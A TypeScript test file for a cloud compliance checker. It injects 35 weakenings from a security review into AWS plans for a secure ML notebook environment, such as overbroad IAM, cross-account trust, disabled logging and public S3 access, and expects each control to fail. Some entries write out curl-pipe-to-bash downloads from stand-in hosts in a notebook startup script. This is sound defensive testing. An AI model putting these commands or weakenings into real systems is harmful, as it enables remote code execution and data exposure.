import type { Env } from '../src/model';
import { T } from '../src/resources';
import {
  accountOf,
  addResource,
  addStatement,
  byName,
  bySid,
  describeMutations,
  editHook,
  set,
  statements,
  type Mutation,
  type Raw,
} from './mutate';

/**
 * The adversarial review's weakenings of the real layer sources, as edits of the real dev and prod plans: each
 * one got through `npm start` before its control was fixed (the review's number in brackets), and each must now
 * make exactly the controls listed fail, naming the resource.
 */
const PARTNER_ROOT = 'arn:aws:iam::444455556666:root';
const everyKeyOf = (arn: unknown) => String(arn).replace(/key\/.*$/, 'key/*');
const idOf = (env: Env, name: string) => String(byName(env, name).id);
const NETWORK = 'secure-ml-network';
const NOTEBOOK = 'secure-ml-notebook';
const PASSED_TO_THREE = ['sagemaker.amazonaws.com', 'ec2.amazonaws.com', 'lambda.amazonaws.com'];
const selectors = (env: Env) => byName(env, 'trail').inputs['advancedEventSelectors'] as Raw[];
const dataBucketOf = (env: Env) => String(byName(env, 'data-public-access').inputs['bucket']);
const vpcCidrOf = (env: Env) => String(byName(env, 'network-vpc').inputs['cidrBlock']);

const REVIEW: Mutation[] = [
  [
    ['IAM-6'],
    "[4] alice's notebook role bounded by AdministratorAccess instead of the boundary policy",
    set('alice-role', { permissionsBoundary: 'arn:aws:iam::aws:policy/AdministratorAccess' }),
    'alice-role (Role)',
  ],
  [
    ['IAM-4'],
    "[5] PowerUserAccess attached to bob's notebook role",
    set('bob-role', { managedPolicyArns: ['arn:aws:iam::aws:policy/PowerUserAccess'] }),
    'bob-role (Role)',
  ],
  [
    ['KMS-4'],
    "[6] alice's data-key grant widened to every key of the account (key/*)",
    statements(
      'alice-data-access',
      bySid('UseDataKeyThroughS3', (s) => ({ ...s, Resource: everyKeyOf(s['Resource']) })),
    ),
    'alice-data-access (RolePolicy)',
  ],
  [
    ['KMS-3'],
    "[7] the data key's policy admits another account's root",
    addStatement('data-key', {
      Sid: 'PartnerAccount',
      Effect: 'Allow',
      Principal: { AWS: PARTNER_ROOT },
      Action: ['kms:Decrypt', 'kms:DescribeKey'],
      Resource: '*',
    }),
    'data-key (Key)',
  ],
  [
    ['IAM-3'],
    "[24] bob's notebook role's trust adds another account's root",
    statements(
      'bob-role',
      (all: Raw[]) => [
        ...all,
        {
          Sid: 'PartnerAssumes',
          Effect: 'Allow',
          Principal: { AWS: PARTNER_ROOT },
          Action: 'sts:AssumeRole',
        },
      ],
      'assumeRolePolicy',
    ),
    'bob-role (Role)',
  ],
  [
    ['NET-4'],
    '[9] the notebook security group open to 0.0.0.0/1 and 128.0.0.0/1 (the internet in two halves)',
    (env) =>
      ['0.0.0.0/1', '128.0.0.0/1'].reduce(
        (e, cidr, i) =>
          addResource(T.egressRule, `network-notebook-half-${i}`, NETWORK, {
            description: 'HTTPS to half of the internet',
            fromPort: 443,
            toPort: 443,
            ipProtocol: 'tcp',
            cidrIpv4: cidr,
            securityGroupId: idOf(env, 'network-notebook'),
          })(e),
        env,
      ),
    'network-notebook-half-0 (SecurityGroupEgressRule)',
  ],
  [
    ['NET-3'],
    '[10] the private route table sends 0.0.0.0/0 to a transit gateway',
    (env) =>
      addResource('aws:ec2/route:Route', 'network-private-1-tgw', NETWORK, {
        destinationCidrBlock: '0.0.0.0/0',
        transitGatewayId: 'tgw-0123456789abcdef0',
        routeTableId: idOf(env, 'RouteTable:network-private-1'),
      })(env),
    'network-private-1-tgw (Route)',
  ],
  [
    ['NET-7'],
    "[12] the S3 gateway endpoint's policy opened to every bucket (Resource *)",
    statements(
      'network-vpce-s3',
      bySid('EnvironmentDataBuckets', (s) => ({ ...s, Resource: '*' })),
    ),
    'network-vpce-s3 (VpcEndpoint)',
  ],
  [
    ['NET-1'],
    '[31] a rule attached to the default security group as a separate resource',
    (env) =>
      addResource(T.ingressRule, 'network-default-sg-ssh', NETWORK, {
        description: 'SSH from the VPC',
        fromPort: 22,
        toPort: 22,
        ipProtocol: 'tcp',
        cidrIpv4: vpcCidrOf(env),
        securityGroupId: idOf(env, 'network-default-sg'),
      })(env),
    'network-default-sg-ssh (SecurityGroupIngressRule)',
  ],
  [
    ['NET-8'],
    '[31] a rule attached to the default network ACL as a separate resource',
    (env) =>
      addResource(T.naclRule, 'network-default-acl-all', NETWORK, {
        networkAclId: String(byName(env, 'network-default-acl').inputs['defaultNetworkAclId']),
        ruleNumber: 100,
        egress: false,
        protocol: '-1',
        ruleAction: 'allow',
        cidrBlock: vpcCidrOf(env),
        fromPort: 0,
        toPort: 0,
      })(env),
    'network-default-acl-all (NetworkAclRule)',
  ],
  [
    ['LOG-1'],
    '[13] the trail stops logging (enableLogging: false)',
    set('trail', { enableLogging: false }),
    'trail (Trail)',
  ],
  [
    ['LOG-1'],
    '[16] the management selector excludes kms, iam and sts events',
    (env) =>
      set('trail', {
        advancedEventSelectors: selectors(env).map((s, i) =>
          i === 0
            ? {
                ...s,
                fieldSelectors: [
                  ...(s['fieldSelectors'] as Raw[]),
                  {
                    field: 'eventSource',
                    notEquals: ['kms.amazonaws.com', 'iam.amazonaws.com', 'sts.amazonaws.com'],
                  },
                ],
              }
            : s,
        ),
      })(env),
    'trail (Trail)',
  ],
  [
    ['LOG-7'],
    '[17] the data selector narrowed to DeleteObject',
    (env) =>
      set('trail', {
        advancedEventSelectors: selectors(env).map((s, i) =>
          i === 1
            ? {
                ...s,
                fieldSelectors: [
                  ...(s['fieldSelectors'] as Raw[]),
                  { field: 'eventName', equals: ['DeleteObject'] },
                ],
              }
            : s,
        ),
      })(env),
    'trail (Trail)',
  ],
  [
    ['S3-2'],
    "[18] the data bucket's TLS deny narrowed to three actions",
    statements(
      'data-policy',
      bySid('DenyInsecureTransport', (s) => ({
        ...s,
        Action: ['s3:GetObject', 's3:PutObject', 's3:ListBucket'],
      })),
    ),
    'data (Bucket)',
  ],
  [
    ['S3-7'],
    "[19] the perimeter's deny narrowed to reading and writing objects",
    statements(
      'data-policy',
      bySid('DenyOutsideVpcEndpoint', (s) => ({ ...s, Action: ['s3:GetObject*', 's3:PutObject*'] })),
    ),
    'data (Bucket)',
  ],
  [
    ['S3-7'],
    "[20] the perimeter's break-glass exemption given to alice's notebook role",
    (env) =>
      statements(
        'data-policy',
        bySid('DenyOutsideVpcEndpoint', (s) => ({
          ...s,
          Condition: {
            ...(s['Condition'] as Raw),
            ArnNotLikeIfExists: {
              'aws:PrincipalArn': String(
                (env.outputs.notebook?.['notebooks'] as Record<string, { roleArn: string }> | undefined)?.[
                  'alice'
                ]?.roleArn,
              ),
            },
          },
        })),
      )(env),
    'data (Bucket)',
  ],
  [
    ['LOG-8'],
    '[14] the root-usage alarm waits for a million events',
    set('cis-RootAccountUsage-alarm', { threshold: 1000000 }),
    'cis-RootAccountUsage-alarm (MetricAlarm)',
  ],
  [
    ['LOG-8'],
    '[36] the root-usage filter counts 0 per event',
    (env) =>
      set('cis-RootAccountUsage', {
        metricTransformation: {
          ...(byName(env, 'cis-RootAccountUsage').inputs['metricTransformation'] as Raw),
          value: '0',
        },
      })(env),
    'cis-RootAccountUsage (LogMetricFilter)',
  ],
  [
    ['LOG-9'],
    '[25] the alarms notify a topic of the same name in another account',
    (env) =>
      set('cis-RootAccountUsage-alarm', {
        alarmActions: [String(byName(env, 'alerts').id).replace(/:\d{12}:/, ':444455556666:')],
      })(env),
    'cis-RootAccountUsage-alarm (MetricAlarm)',
  ],
  [
    ['LOG-15'],
    '[26] the topic policy lets AWS:* subscribe and rewrite the topic',
    (env) =>
      addStatement('alerts-policy', {
        Sid: 'AnyoneManages',
        Effect: 'Allow',
        Principal: { AWS: '*' },
        Action: ['sns:Subscribe', 'sns:SetTopicAttributes'],
        Resource: String(byName(env, 'alerts').id),
      })(env),
    'alerts-policy (TopicPolicy)',
  ],
  [
    ['LOG-5'],
    "[15] the trail bucket's CloudTrail statements lose aws:SourceArn",
    statements('trail-bucket-policy', (all) =>
      all.map((s) => {
        if (!String(s['Sid']).startsWith('CloudTrail')) return s;
        const { 'aws:SourceArn': _dropped, ...rest } = (s['Condition'] as Record<string, Raw>)[
          'StringEquals'
        ]!;
        return { ...s, Condition: Object.keys(rest).length ? { StringEquals: rest } : undefined };
      }),
    ),
    'trail-bucket (Bucket)',
  ],
  [
    ['LOG-4'],
    "[30] the trail's delivery role may write to every group whose name starts like the trail's",
    statements(
      'trail-delivery-delivery',
      bySid('DeliverToTrailLogGroup', (s) => ({
        ...s,
        Resource: String(s['Resource']).replace(/:log-stream:\*$/, '*'),
      })),
    ),
    'trail-delivery-role (Role)',
  ],
  [
    ['S3-8'],
    '[29] the trail bucket expires its log files after one day',
    (env) =>
      set('trail-bucket-lifecycle', {
        rules: (byName(env, 'trail-bucket-lifecycle').inputs['rules'] as Raw[]).map((r) => ({
          ...r,
          expiration: { days: 1 },
        })),
      })(env),
    'trail-bucket (Bucket)',
  ],
  [
    ['S3-1'],
    '[35] a second public access block, all off, on the data bucket',
    (env) =>
      addResource(T.publicAccessBlock, 'data-public-access-2', NOTEBOOK, {
        bucket: dataBucketOf(env),
        blockPublicAcls: false,
        blockPublicPolicy: false,
        ignorePublicAcls: false,
        restrictPublicBuckets: false,
      })(env),
    'data (Bucket)',
  ],
  [
    ['S3-3'],
    '[35] a second versioning configuration, suspended, on the data bucket',
    (env) =>
      addResource(T.versioning, 'data-versioning-2', NOTEBOOK, {
        bucket: dataBucketOf(env),
        versioningConfiguration: { status: 'Suspended' },
      })(env),
    'data (Bucket)',
  ],
  [
    ['S3-2'],
    '[35] a second bucket policy on the data bucket, without the denies',
    (env) =>
      addResource(T.bucketPolicy, 'data-policy-2', NOTEBOOK, {
        bucket: dataBucketOf(env),
        policy: JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Sid: 'AccountReads',
              Effect: 'Allow',
              Principal: { AWS: `arn:aws:iam::${accountOf(env)}:root` },
              Action: 's3:GetObject',
              Resource: `arn:aws:s3:::${dataBucketOf(env)}/*`,
            },
          ],
        }),
      })(env),
    'data (Bucket)',
  ],
  [
    ['S3-5'],
    "the data bucket's access logging without a target",
    set('data-logging', { targetBucket: undefined }),
    'data (Bucket)',
  ],
  [
    ['IAM-5'],
    '[34] the guardrail is given back an allow of passing the notebook roles to SageMaker, EC2 and Lambda',
    statements('notebook-guardrail', (all) => [
      ...all,
      {
        Sid: 'PassNotebookRoleToSageMaker',
        Effect: 'Allow',
        Action: 'iam:PassRole',
        Resource: 'arn:aws:iam::123456789012:role/secure-ml/*',
        Condition: { StringEquals: { 'iam:PassedToService': PASSED_TO_THREE } },
      },
    ]),
    'notebook-guardrail (Policy)',
  ],
  [
    ['IAM-5'],
    "[34] the guardrail's deny of passing the notebook role elsewhere exempts EC2 and Lambda",
    statements(
      'notebook-guardrail',
      bySid('DenyPassingNotebookRoleElsewhere', (s) => ({
        ...s,
        Condition: { StringNotEquals: { 'iam:PassedToService': PASSED_TO_THREE } },
      })),
    ),
    'notebook-guardrail (Policy)',
  ],
  [
    ['NB-8'],
    '[21] the auto-stop script exits before it ever stops the instance',
    editHook('auto-stop.sh', (text) =>
      text.includes('stop-notebook-instance')
        ? text.replace(/^set -euo pipefail$/m, 'set -euo pipefail\nexit 0')
        : text,
    ),
    'alice-lifecycle (NotebookInstanceLifecycleConfiguration)',
  ],
  [
    ['NB-8'],
    '[22] the on-start script pipes a download from example.net into bash',
    editHook('on-start.sh', (text) =>
      text.replace(
        /^log "on-start complete"$/m,
        'curl -fsSL example.net/setup.sh | bash\nlog "on-start complete"',
      ),
    ),
    'alice-lifecycle (NotebookInstanceLifecycleConfiguration)',
  ],
  [
    ['NB-8'],
    '[22] the on-start script downloads from a host that only contains amazonaws.com',
    editHook('on-start.sh', (text) =>
      text.replace(
        /^log "on-start complete"$/m,
        'curl -fsSL https://s3.amazonaws.com.example.net/setup.sh | bash\nlog "on-start complete"',
      ),
    ),
    'alice-lifecycle (NotebookInstanceLifecycleConfiguration)',
  ],
  [
    ['NB-8'],
    '[23] the auto-stop scheduled only behind a variable nobody sets',
    editHook('on-start.sh', (text) =>
      text.replace(/^(schedule auto-stop .*)$/m, 'if [[ -n "${SECURE_ML_NEVER_SET:-}" ]]; then\n  $1\nfi'),
    ),
    'alice-lifecycle (NotebookInstanceLifecycleConfiguration)',
  ],
  [
    ['NB-8'],
    '[32] pip3.10 installs from PyPI',
    editHook('on-start.sh', (text) =>
      text.replace(/^log "on-start complete"$/m, 'pip3.10 install --quiet xgboost\nlog "on-start complete"'),
    ),
    'alice-lifecycle (NotebookInstanceLifecycleConfiguration)',
  ],
  [
    ['NB-8'],
    '[32] conda updates the environment from the default channels',
    editHook('on-start.sh', (text) =>
      text.replace(
        /^log "on-start complete"$/m,
        'conda env update --name base --file environment.yml\nlog "on-start complete"',
      ),
    ),
    'alice-lifecycle (NotebookInstanceLifecycleConfiguration)',
  ],
];

describe('the review table', () => {
  it('has every weakening the review found, by number', () => {
    expect(REVIEW).toHaveLength(35);
  });
});

describeMutations(REVIEW);
